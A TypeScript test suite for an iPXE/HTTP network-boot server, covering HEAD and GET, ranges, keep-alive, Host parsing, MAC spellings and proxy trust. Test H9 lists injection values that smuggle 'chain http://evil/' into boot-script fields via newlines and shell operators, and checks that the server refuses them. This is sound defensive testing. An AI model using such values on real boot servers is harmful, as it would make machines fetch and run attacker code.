import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { FileDocument, FileJournal } from '@rackwright/adapter-file-journal';
import { LiquidTemplates } from '@rackwright/adapter-liquid-templates';
import { MemoryStore } from '@rackwright/adapter-memory-store';
import { NodeDatagramSockets } from '@rackwright/adapter-udp-socket';
import { silentLogger } from '@rackwright/kernel';
import { systemClock } from '@rackwright/platform';
import { waitFor } from '@rackwright/testing';
import { task } from '../answer-files/answer-file-fixture.js';
import { address, runBootPlane, type RunningPlane } from '../boot-plane/boot-plane-fixture.js';
import { exchange, RawConnection } from './raw-http-fixture.js';

const closing: AsyncDisposable[] = [];
afterEach(async () => {
  for (const each of closing.splice(0).reverse()) await each[Symbol.asyncDispose]();
});

async function run(env: Readonly<Record<string, string>> = {}): Promise<RunningPlane> {
  const running = await runBootPlane(
    {
      sockets: new NodeDatagramSockets(),
      templates: new LiquidTemplates(),
      store: new MemoryStore({ clock: systemClock }),
      openLog: (directory) => FileJournal.open({ directory, logger: silentLogger }),
      document: (path) => new FileDocument(path),
    },
    { env: { RW_DHCP_MODE: 'off', RW_TFTP_ENABLED: 'false', ...env } },
  );
  closing.push(running);
  return running;
}

const MAC = task().mac;
const CLOSE = 'Connection: close\r\n';
const request = (target: string, headers = `Host: boot\r\n${CLOSE}`, method = 'GET') =>
  `${method} ${target} HTTP/1.1\r\n${headers}\r\n`;
const SPELLINGS = [
  '001a2b3c4d5e',
  '00:1a:2b:3c:4d:5e',
  '00-1A-2B-3C-4D-5E',
  '001a.2b3c.4d5e',
  '00%3A1a%3a2b%3A3c:4d:5e',
];

async function withFiles({ assetDir }: RunningPlane): Promise<void> {
  await mkdir(join(assetDir, 'static'));
  const files = [
    'ipxe.efi',
    'undionly.kpxe',
    'static/x.iso',
    'static/disk.img',
    'static/x.ipxe',
    'static/linux',
    'static/none',
  ];
  for (const name of files) await writeFile(join(assetDir, name), name === 'static/none' ? '' : name.repeat(1_000));
}

describe('HTTP boot over raw connections', () => {
  it('H1: HEAD gives the header lines of GET, with Content-Length and nothing after them (RFC 9110 section 9.3.2)', async () => {
    const running = await run();
    await withFiles(running);
    const { port } = running.http;
    for (const target of [
      '/ipxe/ipxe.efi',
      `/ipxe/${MAC}/ipxe.efi`,
      '/static/x.iso',
      '/static/none',
      `/boot/${MAC}/boot.ipxe`,
    ]) {
      const get = await exchange(port, request(target));
      const head = await exchange(port, request(target, undefined, 'HEAD'));
      expect(head.headers).toEqual(get.headers);
      expect(head.headers[0]).toBe('HTTP/1.1 200 OK');
      expect(head.headers.join('\n')).toMatch(/^content-length: \d+$/im);
      expect([target, head.body]).toEqual([target, '']);
    }
  });

  it('H2: a boot file comes with its length and never in chunks (RFC 9112 section 6.2)', async () => {
    const running = await run();
    await withFiles(running);
    for (const [target, length] of [
      ['/ipxe/undionly.kpxe', 13_000],
      ['/static/linux', 12_000],
      ['/static/none', 0],
    ] as const) {
      const answer = await exchange(running.http.port, request(target));
      expect(answer.headers.join('\n').toLowerCase()).toContain(`content-length: ${length}`);
      expect(answer.headers.join('\n').toLowerCase()).not.toContain('transfer-encoding');
      expect(answer.body).toHaveLength(length);
    }
  });

  it.each([
    ['/ipxe/ipxe.efi', 'application/efi'],
    ['/static/x.iso', 'application/vnd.efi-iso'],
    ['/static/disk.img', 'application/vnd.efi-img'],
    ['/static/x.ipxe', 'text/plain; charset=utf-8'],
    [`/boot/${MAC}/boot.ipxe`, 'text/plain; charset=utf-8'],
    ['/ipxe/undionly.kpxe', 'application/octet-stream'],
    ['/static/linux', 'application/octet-stream'],
  ])('H3: %s is %s (UEFI 2.10 section 24.7.2)', async (target, type) => {
    const running = await run();
    await withFiles(running);
    const answer = await fetch(`${running.http.url}${target}`);
    expect(answer.headers.get('content-type')).toBe(type);
  });

  it('H4: a part, a refusal that says the length, and a whole when the part would be of something else', async () => {
    const running = await run();
    await withFiles(running);
    const url = `${running.http.url}/static/linux`;
    const get = (headers: Record<string, string>) => fetch(url, { headers });
    const part = await get({ range: 'bytes=10-19' });
    expect([part.status, part.headers.get('content-range'), await part.text()]).toEqual([
      206,
      'bytes 10-19/12000',
      'uxstatic/l',
    ]);
    const beyond = await get({ range: 'bytes=12000-' });
    expect([beyond.status, beyond.headers.get('content-range')]).toEqual([416, 'bytes */12000']);
    expect(beyond.headers.get('content-type')).toBe('application/problem+json; charset=utf-8');
    expect(await beyond.json()).toMatchObject({ status: 416, code: 'range-not-satisfiable' });
    const tag = part.headers.get('etag') ?? '';
    expect(tag).toMatch(/^"[^"]+"$/);
    expect((await get({ range: 'bytes=0-1', 'if-range': tag })).status).toBe(206);
    expect((await get({ range: 'bytes=0-1', 'if-range': part.headers.get('last-modified') ?? '' })).status).toBe(206);
    await writeFile(join(running.assetDir, 'static/linux'), 'another kernel');
    const changed = await get({ range: 'bytes=0-1', 'if-range': tag });
    expect([changed.status, await changed.text()]).toEqual([200, 'another kernel']);
  });

  it('H6: HTTP/1.0, keep-alive and Connection: close (RFC 9112 section 9.3)', async () => {
    const running = await run();
    await withFiles(running);
    const { port } = running.http;
    const old = await exchange(port, 'GET /static/x.ipxe HTTP/1.0\r\n\r\n');
    expect(old.headers[0]).toBe('HTTP/1.1 200 OK');
    expect(old.headers.join('\n').toLowerCase()).not.toContain('transfer-encoding');
    expect(old.body).toHaveLength(13_000);
    const kept = await RawConnection.open(port);
    kept.send('GET /static/x.ipxe HTTP/1.0\r\nConnection: keep-alive\r\n\r\n');
    await waitFor(() => kept.body.length === 13_000, { what: 'the first file' });
    expect(kept.headers.join('\n').toLowerCase()).toContain('connection: keep-alive');
    kept.send(request('/ipxe/ipxe.efi', 'Host: a\r\n') + request('/static/disk.img'));
    await kept.closed;
    expect(kept.body.endsWith('static/disk.img'.repeat(1_000))).toBe(true);
    expect(kept.body).toContain('ipxe.efi'.repeat(1_000));
    const last = await exchange(port, request('/static/none'));
    expect(last.headers.join('\n').toLowerCase()).toContain('connection: close');
  });

  it('H7: the Host header with and without port, of IPv6, and targets in absolute form (RFC 9112 section 3.2)', async () => {
    const running = await run();
    await withFiles(running);
    const { port } = running.http;
    const status = async (text: string) => (await exchange(port, text)).headers[0];
    for (const host of ['boot', 'boot:8081', '10.0.0.1', '10.0.0.1:8081', '[2001:db8::1]', '[2001:db8::1]:8081', '']) {
      expect([host, await status(request('/ipxe/ipxe.efi', `Host: ${host}\r\n${CLOSE}`))]).toEqual([
        host,
        'HTTP/1.1 200 OK',
      ]);
    }
    for (const authority of ['boot', 'boot:8081', '[2001:db8::1]:8081']) {
      const target = `http://${authority}/boot/${MAC}/boot.ipxe?arch=x86_64`;
      expect([target, await status(request(target))]).toEqual([target, 'HTTP/1.1 200 OK']);
    }
    expect(running.region.sightings.at(-1)).toMatchObject({ mac: MAC, arch: 'x86_64' });
    expect(await status(`GET /ipxe/ipxe.efi HTTP/1.1\r\n${CLOSE}\r\n`)).toBe('HTTP/1.1 400 Bad Request');
  });

  it('H8: a MAC in any spelling, percent-encoded or not, is the same machine', async () => {
    const running = await run();
    await withFiles(running);
    running.region.put(task({ status: 'completed' }));
    const texts = await Promise.all(
      SPELLINGS.flatMap((mac) => [`/boot/${mac}/boot.ipxe`, `/${mac}/auto.ipxe`, `/auto.ipxe?mac=${mac}`]).map(
        async (path) => (await fetch(`${running.http.url}${path}`)).text(),
      ),
    );
    expect(new Set(texts).size).toBe(1);
    expect(texts[0]).toContain('booting from the local disk');
    for (const mac of SPELLINGS) expect((await fetch(`${running.http.url}/ipxe/${mac}/ipxe.efi`)).status).toBe(200);
  });

  it.each([
    { hostname: 'a\nchain http://evil/' },
    { hostname: '${net0/mac}' },
    { hostname: 'a || chain http://evil/' },
    { kernel_args: 'quiet\r\nchain http://evil/' },
    { kernel_args: 'quiet && chain http://evil/' },
    { kernel_args: 'quiet\u2028chain http://evil/' },
  ])('H9: %j makes no line of a script, and is refused by name', async (hostile) => {
    const { http, region } = await run();
    const lines = async () => (await (await fetch(`${http.url}/boot/${MAC}/boot.ipxe`)).text()).split('\n');
    region.put(task());
    const good = await lines();
    expect(good[0]).toBe('#!ipxe');
    region.put(task(hostile));
    const answer = await fetch(`${http.url}/boot/${MAC}/boot.ipxe`);
    const text = await answer.text();
    expect([answer.status, text.includes('\r')]).toEqual([503, false]);
    expect(JSON.parse(text)).toMatchObject({
      code: 'unavailable',
      detail: expect.stringContaining('script') as string,
    });
    expect(text).not.toContain('evil');
  });

  it('H11: the client is the rightmost address that no trusted proxy wrote, and only trusted peers are believed', async () => {
    const { http, region, metrics } = await run({ RW_HTTP_TRUSTED_PROXIES: '127.0.0.1,10.9.0.0/16' });
    const [lan] = region.subnets();
    if (lan === undefined) throw new Error('the fixture has a subnet');
    region.putSubnets({ ...lan, next_server: address('10.77.0.2') });
    const chainOf = async (port: number, forwarded: string) => {
      const headers = `Host: boot\r\nX-Forwarded-For: ${forwarded}\r\n${CLOSE}`;
      return /http:\/\/([\d.]+)/.exec((await exchange(port, request(`/boot/${MAC}/boot.ipxe`, headers))).body)?.[1];
    };
    expect(await chainOf(http.port, '10.77.3.3')).toBe('10.77.0.2');
    expect(await chainOf(http.port, '192.0.2.1, 10.77.3.3, 10.9.1.1')).toBe('10.77.0.2');
    expect(await chainOf(http.port, '10.77.3.3, 192.0.2.1')).toBe('127.0.0.1');
    expect(await chainOf(http.port, '10.77.3.3, nonsense')).toBe('127.0.0.1');
    const other = await run();
    other.region.putSubnets({ ...lan, next_server: address('10.77.0.2') });
    expect(await chainOf(other.http.port, '10.77.3.3')).toBe('127.0.0.1');
    expect(await metrics.render()).toContain('rw_http_connections');
  });
});
